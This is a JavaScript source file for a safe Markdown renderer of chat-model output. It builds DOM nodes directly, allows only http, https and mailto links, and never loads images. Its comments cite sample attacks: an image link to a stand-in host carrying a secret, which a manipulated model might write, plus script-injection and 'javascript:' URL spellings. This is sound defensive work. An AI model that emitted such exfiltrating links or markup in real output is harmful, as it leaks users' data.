// markdown.js: a small Markdown renderer for model output that is safe by construction.
//
//   import { renderMarkdown } from "/static/markdown.js";
//   element.replaceChildren(renderMarkdown(text));
//
// It builds DOM nodes with createElement, createTextNode and a few fixed attributes; no string
// is ever parsed as HTML, so markup in the text (`<img onerror=...>`, `<script>`) can only
// ever be shown as text. Links are made only for http:, https: and mailto: URLs, and open in
// a new tab without an opener or a referrer. Images are shown as links, never loaded: a model
// talked into writing `![](https://evil.example/?q=<secret>)` must not be able to send data
// anywhere by the page merely displaying it.
//
// The subset is what chat models write: paragraphs (a newline is a line break, as in chat),
// ATX headings, fenced code blocks, bullet and ordered lists (nested by indentation), block
// quotes, thematic breaks, GFM tables; inline code, **strong**, *emphasis*, ~~strikethrough~~,
// [links](url), <autolinks>, bare http(s) URLs and backslash escapes. An unterminated fence
// runs to the end, so a code block being streamed shows as code while it arrives. Raw HTML and
// entities are left as the text they are.

// Deeper nesting (a model looping on "> > > ..." or "- - - ...") is shown as text rather
// than recursed into without bound.
const MAX_NESTING = 24;
const SAFE_PROTOCOLS = new Set(["http:", "https:", "mailto:"]);
const ASCII_PUNCTUATION = /[!-/:-@[-`{-~]/;
const WHITESPACE = /\s/;
const WORD_CHARACTER = /[\p{L}\p{N}]/u;

const FENCE = /^ {0,3}(`{3,}|~{3,})[ \t]*([^\s`]*)[^`]*$/;
const HEADING = /^ {0,3}(#{1,6})(?:[ \t]+(.*?))?(?:[ \t]+#+)?[ \t]*$/;
const THEMATIC_BREAK = /^ {0,3}([-*_])(?:[ \t]*\1){2,}[ \t]*$/;
const QUOTE = /^ {0,3}> ?/;
const LIST_ITEM = /^( {0,3})([-*+]|(\d{1,9})([.)]))([ \t]+|$)/;
const TABLE_DELIMITER = /^ {0,3}\|?[ \t]*:?-+:?[ \t]*(\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$/;
const BARE_URL = /^(?:https?:\/\/|mailto:)[^\s<>"]+/i;
const AUTOLINK = /^<([a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*)>/;
const EMAIL_AUTOLINK = /^<([a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9.-]+)>/;

/**
 * Render Markdown as DOM nodes, safely: no text is ever interpreted as HTML.
 * @param {string} source The Markdown text (e.g. a model's answer so far).
 * @param {Document} [doc=document] The document that creates the nodes.
 * @returns {DocumentFragment}
 */
export function renderMarkdown(source, doc = document) {
  const fragment = doc.createDocumentFragment();
  const lines = source.replace(/\r\n?/g, "\n").split("\n");
  fragment.append(...new BlockParser(doc).parse(lines));
  return fragment;
}

/**
 * The URL to put in an href, or null when it is not an absolute http(s) or mailto URL.
 * The check is on the protocol the URL parser finds, so spellings such as "JavaScript:",
 * "java\tscript:" or a leading control character cannot slip through.
 * @param {string} raw
 * @returns {string|null}
 */
export function safeHref(raw) {
  let url;
  try {
    url = new URL(raw.trim());
  } catch {
    return null; // relative or malformed: there is no page URL it should be resolved against
  }
  return SAFE_PROTOCOLS.has(url.protocol) ? url.href : null;
}

// --- blocks ------------------------------------------------------------------------------

class BlockParser {
  constructor(doc) {
    this.doc = doc;
    this.inline = new InlineParser(doc);
    this.depth = 0;
  }

  /** @param {string[]} lines @returns {Node[]} */
  parse(lines) {
    if (this.depth >= MAX_NESTING) {
      return [this.element("p", [this.doc.createTextNode(lines.join("\n").trim())])];
    }
    this.depth += 1;
    try {
      return this.blocks(lines);
    } finally {
      this.depth -= 1;
    }
  }

  blocks(lines) {
    const nodes = [];
    let i = 0;
    while (i < lines.length) {
      const line = lines[i];
      if (isBlank(line)) {
        i += 1;
        continue;
      }
      let match;
      if ((match = FENCE.exec(line))) {
        i = this.fencedCode(lines, i, match, nodes);
      } else if ((match = HEADING.exec(line))) {
        const level = Math.min(match[1].length + 2, 6); // the page's own h1 and h2 come first
        nodes.push(this.element(`h${level}`, this.inline.parse(match[2] ?? "")));
        i += 1;
      } else if (THEMATIC_BREAK.test(line)) {
        nodes.push(this.doc.createElement("hr"));
        i += 1;
      } else if (QUOTE.test(line)) {
        i = this.blockQuote(lines, i, nodes);
      } else if (LIST_ITEM.test(line)) {
        i = this.list(lines, i, nodes);
      } else if (isTableStart(lines, i)) {
        i = this.table(lines, i, nodes);
      } else {
        i = this.paragraph(lines, i, nodes);
      }
    }
    return nodes;
  }

  fencedCode(lines, start, match, nodes) {
    const [, fence, info] = match;
    const indent = leadingSpaces(lines[start]);
    const closing = new RegExp(`^ {0,3}${fence[0] === "`" ? "`" : "~"}{${fence.length},}[ \\t]*$`);
    const body = [];
    let i = start + 1;
    while (i < lines.length && !closing.test(lines[i])) {
      body.push(stripColumns(lines[i], indent));
      i += 1;
    }
    if (i === lines.length && body.at(-1) === "") body.pop(); // still streaming: no blank tail
    const code = this.doc.createElement("code");
    const language = info.replace(/[^\w+#.-]/g, "");
    if (language) {
      code.className = `language-${language}`;
      code.dataset.language = language;
    }
    code.append(this.doc.createTextNode(body.join("\n")));
    nodes.push(this.element("pre", [code]));
    return i + 1; // past the closing fence; an unclosed fence ran to the end
  }

  blockQuote(lines, start, nodes) {
    const inner = [];
    let i = start;
    while (i < lines.length && QUOTE.test(lines[i])) {
      inner.push(lines[i].replace(QUOTE, ""));
      i += 1;
    }
    nodes.push(this.element("blockquote", this.parse(inner)));
    return i;
  }

  list(lines, start, nodes) {
    const first = LIST_ITEM.exec(lines[start]);
    const ordered = first[3] !== undefined;
    const kind = ordered ? first[4] : first[2]; // ")" or "." for ordered, the bullet otherwise
    const list = this.doc.createElement(ordered ? "ol" : "ul");
    const startNumber = ordered ? Number.parseInt(first[3], 10) : 1;
    if (startNumber !== 1) list.start = startNumber;
    const items = [];
    let loose = false;
    let i = start;
    for (;;) {
      const match = LIST_ITEM.exec(lines[i]);
      const width = match[0].length - match[5].length;
      const spaces = match[5].length;
      // CommonMark: content starts after 1-4 spaces; more than 4 means one, then indented text.
      const contentIndent = width + (spaces >= 1 && spaces <= 4 ? spaces : 1);
      // The first line without its marker; past 4 spaces, the rest is indented content.
      const firstLine = " ".repeat(spaces > 4 ? spaces - 1 : 0) + lines[i].slice(match[0].length);
      const itemLines = [firstLine];
      let blankInside = false;
      i += 1;
      while (i < lines.length) {
        const line = lines[i];
        if (isBlank(line)) {
          const next = nextNonBlank(lines, i);
          if (next === -1 || columnsOf(lines[next]) < contentIndent) break;
          blankInside = true;
          itemLines.push("");
        } else if (columnsOf(line) >= contentIndent) {
          itemLines.push(stripColumns(line, contentIndent));
        } else if (!startsBlock(lines, i) && !isBlank(itemLines.at(-1))) {
          itemLines.push(line.trimStart()); // a lazy continuation of the item's paragraph
        } else {
          break;
        }
        i += 1;
      }
      items.push(this.parse(itemLines));
      loose ||= blankInside && itemLines.some((l, n) => n > 0 && !isBlank(l));
      // Another item of the same list, possibly after blank lines (which make it loose).
      const next = isBlank(lines[i] ?? "") ? nextNonBlank(lines, i) : i;
      const sibling = next === -1 ? null : LIST_ITEM.exec(lines[next] ?? "");
      if (
        sibling === null ||
        THEMATIC_BREAK.test(lines[next]) ||
        (sibling[3] !== undefined) !== ordered ||
        (ordered ? sibling[4] : sibling[2]) !== kind
      ) {
        break;
      }
      if (next !== i) loose = true;
      i = next;
    }
    for (const children of items) {
      const item = this.doc.createElement("li");
      // A tight list shows its items' paragraphs without paragraph spacing (CommonMark).
      for (const child of children) {
        if (!loose && child.nodeName === "P") item.append(...child.childNodes);
        else item.append(child);
      }
      list.append(item);
    }
    nodes.push(list);
    return i;
  }

  table(lines, start, nodes) {
    const header = splitRow(lines[start]);
    const alignments = splitRow(lines[start + 1]).map((cell) => {
      const left = cell.startsWith(":");
      const right = cell.endsWith(":");
      if (left && right) return "center";
      return right ? "right" : left ? "left" : "";
    });
    const row = (cells, tag) => {
      const tr = this.doc.createElement("tr");
      header.forEach((_, n) => {
        const cell = this.element(tag, this.inline.parse(cells[n] ?? ""));
        if (alignments[n]) cell.style.textAlign = alignments[n];
        tr.append(cell);
      });
      return tr;
    };
    const table = this.doc.createElement("table");
    table.append(this.element("thead", [row(header, "th")]));
    const body = this.doc.createElement("tbody");
    let i = start + 2;
    while (i < lines.length && !isBlank(lines[i]) && lines[i].includes("|")) {
      if (startsBlock(lines, i)) break;
      body.append(row(splitRow(lines[i]), "td"));
      i += 1;
    }
    if (body.childNodes.length > 0) table.append(body);
    // The wrapper scrolls a wide table sideways instead of widening the page.
    const wrapper = this.element("div", [table]);
    wrapper.className = "table-scroll";
    nodes.push(wrapper);
    return i;
  }

  paragraph(lines, start, nodes) {
    const text = [lines[start].trim()];
    let i = start + 1;
    while (i < lines.length && !isBlank(lines[i]) && !startsBlock(lines, i, true)) {
      text.push(lines[i].trim());
      i += 1;
    }
    nodes.push(this.element("p", this.inline.parse(text.join("\n"))));
    return i;
  }

  element(tag, children) {
    const element = this.doc.createElement(tag);
    element.append(...children);
    return element;
  }
}

// Whether line i starts a block other than a paragraph. Inside a paragraph, as in CommonMark,
// only an ordered list that starts at 1 interrupts it ("in\n2019. it rained" is one paragraph).
function startsBlock(lines, i, inParagraph = false) {
  const line = lines[i];
  if (FENCE.test(line) || HEADING.test(line) || THEMATIC_BREAK.test(line) || QUOTE.test(line)) {
    return true;
  }
  const item = LIST_ITEM.exec(line);
  if (item !== null) {
    if (!inParagraph) return true;
    const empty = line.slice(item[0].length).trim() === "";
    if (!empty && (item[3] === undefined || item[3] === "1")) return true;
  }
  return isTableStart(lines, i);
}

function isTableStart(lines, i) {
  if (i + 1 >= lines.length || !lines[i].includes("|") || !TABLE_DELIMITER.test(lines[i + 1])) {
    return false;
  }
  return splitRow(lines[i]).length === splitRow(lines[i + 1]).length;
}

// A table row's cells: outer pipes are optional, `\|` is a pipe inside a cell.
function splitRow(line) {
  let text = line.trim();
  if (text.startsWith("|")) text = text.slice(1);
  if (text.endsWith("|") && !text.endsWith("\\|")) text = text.slice(0, -1);
  const cells = [];
  let cell = "";
  for (let i = 0; i < text.length; i += 1) {
    if (text[i] === "\\" && text[i + 1] === "|") {
      cell += "|";
      i += 1;
    } else if (text[i] === "|") {
      cells.push(cell.trim());
      cell = "";
    } else {
      cell += text[i];
    }
  }
  cells.push(cell.trim());
  return cells;
}

function isBlank(line) {
  return line.trim() === "";
}

function nextNonBlank(lines, i) {
  for (let n = i; n < lines.length; n += 1) if (!isBlank(lines[n])) return n;
  return -1;
}

function leadingSpaces(line) {
  return line.length - line.trimStart().length;
}

// Indentation in columns, a tab advancing to the next multiple of 4 (CommonMark tab stops).
function columnsOf(line) {
  let columns = 0;
  for (const char of line) {
    if (char === " ") columns += 1;
    else if (char === "\t") columns += 4 - (columns % 4);
    else break;
  }
  return columns;
}

// Remove up to `count` columns of indentation; a tab that straddles the cut leaves spaces.
function stripColumns(line, count) {
  let columns = 0;
  let i = 0;
  while (i < line.length && columns < count) {
    if (line[i] === " ") columns += 1;
    else if (line[i] === "\t") columns += 4 - (columns % 4);
    else break;
    i += 1;
  }
  return " ".repeat(Math.max(0, columns - count)) + line.slice(i);
}

// --- inlines -----------------------------------------------------------------------------

class InlineParser {
  constructor(doc) {
    this.doc = doc;
    this.depth = 0;
  }

  /**
   * @param {string} text One block's text, lines joined with "\n".
   * @param {boolean} [inLink=false] Inside a link's label: no nested links (HTML forbids them).
   * @returns {Node[]}
   */
  parse(text, inLink = false) {
    if (this.depth >= MAX_NESTING) return [this.doc.createTextNode(text)];
    this.depth += 1;
    try {
      return this.inlines(text, inLink);
    } finally {
      this.depth -= 1;
    }
  }

  inlines(text, inLink) {
    const nodes = [];
    let plain = "";
    const flush = () => {
      if (plain) nodes.push(this.doc.createTextNode(plain));
      plain = "";
    };
    const emit = (node, consumed) => {
      flush();
      nodes.push(node);
      return consumed;
    };
    let i = 0;
    while (i < text.length) {
      const char = text[i];
      const rest = text.slice(i);
      let taken = 0;
      if (char === "\\" && ASCII_PUNCTUATION.test(text[i + 1] ?? "")) {
        plain += text[i + 1];
        i += 2;
        continue;
      }
      if (char === "\n") {
        plain = plain.trimEnd();
        taken = emit(this.doc.createElement("br"), 1);
        while (text[i + taken] === " ") taken += 1;
      } else if (char === "`") {
        taken = this.codeSpan(rest, emit);
      } else if (char === "<" && !inLink) {
        taken = this.autolink(rest, emit);
      } else if (char === "!" && text[i + 1] === "[" && !inLink) {
        taken = this.link(rest, 1, emit);
      } else if (char === "[" && !inLink) {
        taken = this.link(rest, 0, emit);
      } else if (char === "*" || char === "_" || char === "~") {
        taken = this.emphasis(text, i, emit, inLink);
      } else if (!inLink && (char === "h" || char === "H" || char === "m" || char === "M")) {
        taken = this.bareUrl(text, i, emit);
      }
      if (taken > 0) {
        i += taken;
      } else {
        plain += char;
        i += 1;
      }
    }
    flush();
    return nodes;
  }

  codeSpan(rest, emit) {
    const opener = /^`+/.exec(rest)[0];
    const closing = findBacktickRun(rest, opener.length, opener.length);
    if (closing === -1) return 0;
    let content = rest.slice(opener.length, closing).replace(/\n/g, " ");
    // CommonMark: one space each side is stripped, so `` `code` `` can show backticks.
    if (/^ .*[^ ].* $/s.test(content)) content = content.slice(1, -1);
    const code = this.doc.createElement("code");
    code.append(this.doc.createTextNode(content));
    return emit(code, closing + opener.length);
  }

  autolink(rest, emit) {
    let match = AUTOLINK.exec(rest);
    let href = match && safeHref(match[1]);
    if (!match) {
      match = EMAIL_AUTOLINK.exec(rest);
      href = match && safeHref(`mailto:${match[1]}`);
    }
    if (!href) return 0; // `<img src=x>` and `<javascript:...>` stay text
    return emit(this.anchor(href, [this.doc.createTextNode(match[1])]), match[0].length);
  }

  // `[label](destination "title")`, or with `image` = 1 `![alt](destination)`.
  link(rest, image, emit) {
    const labelEnd = findClosingBracket(rest, image);
    if (labelEnd === -1 || rest[labelEnd + 1] !== "(") return 0;
    const target = parseDestination(rest, labelEnd + 2);
    if (target === null) return 0;
    const label = rest.slice(image + 1, labelEnd);
    const consumed = target.end;
    const href = safeHref(target.destination);
    if (href === null) {
      // Not a link at all: the person sees exactly what the model wrote.
      return emit(this.doc.createTextNode(rest.slice(0, consumed)), consumed);
    }
    const children = image
      ? [this.doc.createTextNode(`image: ${label || target.destination}`)]
      : this.parse(label, true);
    const anchor = this.anchor(href, children);
    if (target.title) anchor.title = target.title;
    if (image) anchor.className = "image-link";
    return emit(anchor, consumed);
  }

  emphasis(text, i, emit, inLink) {
    const char = text[i];
    const run = runLength(text, i, char);
    const before = text[i - 1] ?? " ";
    const after = text[i + run] ?? " ";
    // An opener must be followed by text, and `_` must not start inside a word (snake_case).
    if (WHITESPACE.test(after)) return 0;
    if (char === "_" && WORD_CHARACTER.test(before)) return 0;
    if (char === "~") {
      if (run !== 2) return 0;
      return this.delimited(text, i, 2, char, ["del"], emit, inLink);
    }
    if (run >= 3) {
      const taken = this.delimited(text, i, 3, char, ["em", "strong"], emit, inLink);
      if (taken) return taken;
    }
    if (run >= 2) {
      const taken = this.delimited(text, i, 2, char, ["strong"], emit, inLink);
      if (taken) return taken;
    }
    if (run === 1) return this.delimited(text, i, 1, char, ["em"], emit, inLink);
    return 0;
  }

  // Find a closing run of exactly `size` delimiters; wrap the content in `tags`, outermost first.
  delimited(text, i, size, char, tags, emit, inLink) {
    let j = i + size;
    while (j < text.length) {
      if (text[j] === "`") {
        const opener = runLength(text, j, "`");
        const closing = findBacktickRun(text, j + opener, opener);
        j = closing === -1 ? j + opener : closing + opener; // code spans bind tighter
        continue;
      }
      if (text[j] === "\\") {
        j += 2;
        continue;
      }
      if (text[j] !== char) {
        j += 1;
        continue;
      }
      const run = runLength(text, j, char);
      const closes =
        run === size &&
        j > i + size &&
        !WHITESPACE.test(text[j - 1]) &&
        !(char === "_" && WORD_CHARACTER.test(text[j + run] ?? ""));
      if (closes) {
        let children = this.parse(text.slice(i + size, j), inLink);
        for (const tag of [...tags].reverse()) {
          const element = this.doc.createElement(tag);
          element.append(...children);
          children = [element];
        }
        return emit(children[0], j + run - i);
      }
      j += run;
    }
    return 0;
  }

  bareUrl(text, i, emit) {
    if (i > 0 && /[\p{L}\p{N}/]/u.test(text[i - 1])) return 0;
    const match = BARE_URL.exec(text.slice(i));
    if (match === null) return 0;
    let url = match[0].replace(/[.,:;!?'"*_~]+$/, "");
    // A closing parenthesis belongs to the URL only when it has a partner inside it (GFM).
    while (url.endsWith(")") && count(url, ")") > count(url, "(")) url = url.slice(0, -1);
    const href = safeHref(url);
    if (href === null || /^(?:https?:\/\/|mailto:)$/i.test(url)) return 0;
    return emit(this.anchor(href, [this.doc.createTextNode(url)]), url.length);
  }

  anchor(href, children) {
    const anchor = this.doc.createElement("a");
    anchor.href = href;
    anchor.target = "_blank";
    anchor.rel = "noopener noreferrer";
    anchor.append(...children);
    return anchor;
  }
}

function runLength(text, i, char) {
  let n = i;
  while (text[n] === char) n += 1;
  return n - i;
}

function count(text, char) {
  return text.split(char).length - 1;
}

// The index of the next run of exactly `size` backticks at or after `from`, or -1.
function findBacktickRun(text, from, size) {
  let j = from;
  while (j < text.length) {
    if (text[j] !== "`") {
      j += 1;
      continue;
    }
    const run = runLength(text, j, "`");
    if (run === size) return j;
    j += run;
  }
  return -1;
}

// The index of the "]" closing the label that opens at `offset`, skipping nested brackets,
// escapes and code spans; -1 when it is not closed on this block.
function findClosingBracket(text, offset) {
  let depth = 0;
  for (let j = offset; j < text.length; j += 1) {
    const char = text[j];
    if (char === "\\") {
      j += 1;
    } else if (char === "`") {
      const run = runLength(text, j, "`");
      const closing = findBacktickRun(text, j + run, run);
      j = (closing === -1 ? j + run : closing + run) - 1;
    } else if (char === "[") {
      depth += 1;
    } else if (char === "]") {
      depth -= 1;
      if (depth === 0) return j;
    }
  }
  return -1;
}

// `(destination "title")` starting just after the "(": {destination, title, end} or null.
function parseDestination(text, start) {
  let j = start;
  const skipSpaces = () => {
    while (j < text.length && (text[j] === " " || text[j] === "\t" || text[j] === "\n")) j += 1;
  };
  skipSpaces();
  let destination = "";
  if (text[j] === "<") {
    const close = text.indexOf(">", j);
    if (close === -1 || text.slice(j, close).includes("\n")) return null;
    destination = text.slice(j + 1, close);
    j = close + 1;
  } else {
    let depth = 0;
    const from = j;
    while (j < text.length && !WHITESPACE.test(text[j])) {
      if (text[j] === "\\") j += 1;
      else if (text[j] === "(") depth += 1;
      else if (text[j] === ")") {
        if (depth === 0) break;
        depth -= 1;
      }
      j += 1;
    }
    destination = text.slice(from, j).replace(/\\([!-/:-@[-`{-~])/g, "$1");
  }
  skipSpaces();
  let title = "";
  const quote = text[j];
  if (quote === '"' || quote === "'" || quote === "(") {
    const closer = quote === "(" ? ")" : quote;
    const close = text.indexOf(closer, j + 1);
    if (close === -1) return null;
    title = text.slice(j + 1, close);
    j = close + 1;
    skipSpaces();
  }
  if (text[j] !== ")") return null;
  return { destination, title, end: j + 1 };
}
